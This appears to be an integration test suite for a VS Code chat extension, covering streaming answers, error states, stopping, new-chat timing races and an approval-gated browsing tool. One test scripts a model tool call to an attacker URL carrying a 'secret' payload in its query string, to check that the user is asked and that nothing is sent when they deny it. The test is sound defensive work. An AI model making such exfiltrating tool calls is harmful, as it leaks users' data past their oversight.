import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import * as vscode from "vscode";
import { ToolRegistry } from "../../src/tools/catalog/toolRegistry.ts";
import { type ScriptedModel, startScriptedModel } from "../helpers/scriptedModel.ts";
import { ask, chat, configure, cutaway, turnEnded, until } from "./cutaway.ts";
import { type ScriptedService, startScriptedService, writeJson, writeStream } from "./service.ts";

describe("a chat with the local service, nothing set up", () => {
	it("streams an answer @core", async () => {
		const turn = await ask("Hello");
		assert.equal(turn.status.state, "complete");
		assert.ok((turn.messages[0]?.text.length ?? 0) > 20, "the answer has text");
	});

	it("says which service answers @core", async () => {
		const { connection } = (await chat()).picture();
		assert.deepEqual(connection, { kind: "local", label: "Demo", hasKey: false });
	});

	it("keeps the chat: a chat started later can be left for it", async () => {
		const controller = await chat();
		const { chatId } = controller.picture();
		await controller.newChat();
		assert.notEqual(controller.picture().chatId, chatId);
		assert.deepEqual(controller.picture().turns, []);
	});

	it("runs what follows the opening of a chat once it shows, also where it showed already", async () => {
		await ask("Hello");
		const controller = await chat();
		const { chatId } = controller.picture();
		await controller.newChat();
		const shown: string[] = [];
		const note = async (): Promise<void> => {
			shown.push(controller.picture().chatId);
		};
		await controller.open(chatId, note);
		await controller.open(chatId, note);
		assert.deepEqual(shown, [chatId, chatId]);
	});
});

describe("T36: Browsing with the local service", () => {
	let model: ScriptedModel | undefined;

	before(async () => {
		model = await startScriptedModel();
		await configure({
			"chat.serverTools": ["browsing"],
			"chat.model": "lm/scripted",
			"localService.servers": [{ name: "lm", baseUrl: model.baseUrl }],
		});
	});
	after(async () => {
		await configure({
			"chat.serverTools": undefined,
			"chat.model": undefined,
			"localService.servers": undefined,
		});
		await model?.stop();
	});

	it("asks about an address that a model wrote, with all of it, and sends nothing when denied", async () => {
		const controller = await chat();
		await controller.newChat();
		const url = `https://attacker.invalid/collect?d=${"secret".repeat(50)}`;
		model?.script({ calls: [["browsing", { url }]] });
		const id = await controller.send("Look it up");
		const approval = () =>
			controller
				.picture()
				.turns.find(turn => turn.id === id)
				?.tools?.at(-1)?.approval;
		await until(() => approval() !== undefined, "the question");
		const { requestId = "", address, canRemember } = approval() ?? {};
		assert.equal(`${address?.before}${address?.host}${address?.after}`, url);
		assert.equal(canRemember, false);
		const denied = { decision: "deny", scope: "once", reason: "", hunks: [] } as const;
		controller.tools.cards.answer({ requestId, ...denied, hunks: [] });
		const { tools } = await turnEnded(controller, id);
		assert.deepEqual(
			tools?.map(({ state }) => state),
			["denied"],
		);
	});

	it("asks a typed address at once, and none of this machine", async () => {
		const controller = await chat();
		await controller.newChat();
		controller.noteTyped(["https://127.0.0.1/page"]);
		model?.script({ calls: [["browsing", { url: "https://127.0.0.1/page" }]] });
		const id = await controller.send("What does https://127.0.0.1/page say?");
		const turn = await turnEnded(controller, id);
		assert.match(model?.questions.at(-1) ?? "", /this machine or its network/);
		assert.deepEqual(
			turn.tools?.map(({ state, line }) => [state, line]),
			[["failed", "Read https://127.0.0.1/page"]],
		);
	});
});

/** Keeps the extension host from everything else, as a busy machine does. */
function holdHost(ms: number): void {
	const end = performance.now() + ms;
	while (performance.now() < end);
}

const isOver = ({ status }: { readonly status: { readonly state: string } }): boolean =>
	status.state !== "streaming";

describe("a chat with a remote service", () => {
	let service: ScriptedService | undefined;

	async function connect(
		...script: Parameters<typeof startScriptedService>
	): Promise<ScriptedService> {
		service = await startScriptedService(...script);
		await configure({ endpoint: service.baseUrl });
		await (await chat()).newChat();
		return service;
	}

	afterEach(async () => {
		await configure({ endpoint: undefined, "chat.extraParameters": undefined });
		await service?.stop();
	});

	it("shows every message of an answer @core", async () => {
		await connect((_request, response) => writeStream(response, [["One."], ["Two."], ["Three."]]));
		const turn = await ask("Say three things");
		assert.deepEqual(
			turn.messages.map(({ text, isFinished }) => [text, isFinished]),
			["One.", "Two.", "Three."].map(text => [text, true]),
		);
	});

	it("sends the conversation so far, the model and the parameters of the settings", async () => {
		await configure({
			"chat.temperature": 0.5,
			"chat.extraParameters": { seed: 7, stream: false, model: "other" },
		});
		const { heard } = await connect((_request, response) => writeStream(response, [["Yes", "."]]));
		await ask("First?");
		await ask("Second?");
		await configure({ "chat.temperature": undefined });
		assert.equal(heard.length, 2);
		assert.equal(heard[1]?.path, "/v1/chat/messages");
		const { custom_tools: tools, ...body } = JSON.parse(heard[1]?.body ?? "");
		// Browsing is offered only if the user enabled it.
		const offered = new ToolRegistry().tools.filter(({ name }) => name !== "browsing");
		assert.deepEqual(
			tools.map((tool: { function: { name: string } }) => tool.function.name),
			offered.map(({ name }) => name),
		);
		assert.deepEqual(body, {
			messages: [
				{ role: "user", content: "First?" },
				{ role: "assistant", content: "Yes." },
				{ role: "user", content: "Second?" },
			],
			model: "llm-4-turbo-tools",
			stream: true,
			temperature: 0.5,
			seed: 7,
		});
		assert.equal(heard[1]?.headers.authorization, undefined);
	});

	it("H2: a refused key is reported as such, the question is kept, and nothing is sent twice @core", async () => {
		const { heard } = await connect((_request, response) =>
			writeJson(response, 401, { error: { message: "No such key" } }),
		);
		const turn = await ask("Anyone?");
		assert.equal(turn.prompt, "Anyone?");
		assert.equal(turn.status.state, "refused");
		assert.equal(turn.status.serviceMessage, "No such key");
		assert.deepEqual(turn.status.actions, ["setApiKey", "tryAgain"]);
		assert.equal(heard.length, 1);
	});

	it("S2: an answer that breaks off keeps its text and says so @core", async () => {
		await connect((_request, response) => {
			response.writeHead(200, { "content-type": "text/event-stream" });
			response.write('data: {"role":"assistant","content":""}\n\n');
			response.write('data: {"content":"Half a sen"}\n\n', () => response.destroy());
		});
		const turn = await ask("Whole?");
		assert.equal(turn.status.state, "interrupted");
		assert.equal(turn.messages[0]?.text, "Half a sen");
	});

	it("S28: «Show the error» asks once more without streaming and uses its answer", async () => {
		const { heard } = await connect((request, response) => {
			if (request.body.includes('"stream":true')) {
				response.writeHead(200, { "content-type": "text/event-stream" });
				response.end("data: [END]\n\n");
			} else {
				writeJson(response, 200, { messages: [{ role: "assistant", content: "Here it is." }] });
			}
		});
		const empty = await ask("Anything?");
		assert.equal(empty.status.state, "empty");
		const controller = await chat();
		await controller.again.runAction(empty.id, "showError");
		const turn = await turnEnded(controller, empty.id);
		assert.equal(turn.status.state, "complete");
		assert.equal(turn.messages[0]?.text, "Here it is.");
		assert.equal(heard.length, 2);
	});

	it("S25: Stop ends the answer at once and keeps its text @core", async () => {
		await connect((_request, response) => {
			response.writeHead(200, { "content-type": "text/event-stream" });
			response.write('data: {"role":"assistant","content":""}\n\ndata: {"content":"On and"}\n\n');
		});
		const controller = await chat();
		const id = await controller.send("Go on");
		await until(() => controller.picture().turns[0]?.messages[0]?.text === "On and", "text");
		controller.stop();
		const turn = await turnEnded(controller, id);
		assert.equal(turn.status.state, "stopped");
		assert.equal(turn.messages[0]?.text, "On and");
	});

	it("T10: a second question while one is running is refused, not sent and not lost @core", async () => {
		const { heard } = await connect((_request, response) => {
			response.writeHead(200, { "content-type": "text/event-stream" });
			response.write(": working\n\n");
		});
		const controller = await chat();
		const id = await controller.send("One");
		await assert.rejects(controller.send("Two"), /still running/);
		controller.stop();
		await turnEnded(controller, id);
		assert.ok(heard.length <= 1);
	});

	it("a New Chat that arrives just after the first question leaves its answer running; one a second later begins another chat", async () => {
		const { heard } = await connect((_request, response) => {
			response.writeHead(200, { "content-type": "text/event-stream" });
			response.write('data: {"role":"assistant","content":"On and"}\n\n');
		});
		const controller = await chat();
		const { chatId } = controller.picture();
		const id = await controller.send("Go on");
		await vscode.commands.executeCommand("cutaway.newChat");
		const { chatId: shown, turns } = controller.picture();
		assert.equal(shown, chatId);
		assert.deepEqual([turns.length, turns[0]?.status.state], [1, "streaming"]);
		await until(() => !controller.hasJustBegun, "a second");
		await vscode.commands.executeCommand("cutaway.newChat");
		assert.notEqual(controller.picture().chatId, chatId);
		assert.deepEqual(controller.picture().turns, []);
		assert.equal(heard.length, 1);
		await controller.open(chatId);
		assert.equal(controller.picture().turns[0]?.id, id);
	});

	for (const isMessageFirst of [true, false]) {
		for (const [heldMs, apartMs] of [
			[0, 0],
			[600, 300],
			[1_200, 0],
		] as const) {
			const [first, second] = isMessageFirst
				? ["a message", "New Chat"]
				: ["New Chat", "a message"];
			it(`${second} ${heldMs + apartMs} ms after ${first} on a busy machine leaves the message in exactly one place, with its words`, async () => {
				const { heard } = await connect((_request, response) => writeStream(response, [["Yes."]]));
				await ask("Something before");
				const controller = await chat();
				const words = `Where am I, ${randomUUID()}?`;
				const send = (): Promise<unknown> => controller.send(words);
				const newChat = async () => vscode.commands.executeCommand("cutaway.newChat");
				const [begin, follow] = isMessageFirst ? [send, newChat] : [newChat, send];
				const begun = begin();
				holdHost(heldMs);
				await new Promise(resolve => setTimeout(resolve, apartMs));
				const results = await Promise.allSettled([begun, follow()]);
				const isSent = results[isMessageFirst ? 0 : 1].status === "fulfilled";
				await until(() => controller.picture().turns.every(isOver), "the answers to end");

				const { library } = await (await cutaway().activate()).runtime();
				const places = new Set<string>();
				for await (const { chat } of library.search(words)) {
					places.add(chat.id);
				}
				// A message that is refused goes back into its box, which a test of the page holds.
				assert.equal(places.size, isSent ? 1 : 0);
				const asked = heard.filter(({ body }) => body.includes(words));
				assert.ok(asked.length <= (isSent ? 1 : 0));
				const { chatId, turns } = controller.picture();
				const shown = turns.filter(({ prompt }) => prompt === words);
				assert.equal(shown.length, places.has(chatId) ? 1 : 0);
			});
		}
	}

	it("L16: a service that is down is never replaced by the local one @core", async () => {
		const { stop } = await connect((_request, response) => writeStream(response, [["Yes"]]));
		await stop();
		const turn = await ask("Anyone?");
		assert.equal(turn.status.state, "notSent");
		assert.match(turn.status.sentence ?? "", /Nothing was sent/);
	});

	it("Check Service asks one free thing and says what it found", async () => {
		const { heard, baseUrl } = await connect((_request, response) =>
			writeJson(response, 404, { success: false, error: { message: "No such generation" } }),
		);
		const report = await vscode.commands.executeCommand<{
			isReachable: boolean;
			lines: readonly string[];
		}>("cutaway.checkService");
		assert.equal(report.isReachable, true);
		assert.match(report.lines.join(" "), /Connected to/);
		assert.ok(heard.length > 0);
		assert.ok(
			heard.every(({ method, path }) => method === "GET" && path.startsWith("/v1/generations/")),
		);
		assert.match(report.lines[0] ?? "", new RegExp(new URL(baseUrl).host));
	});
});
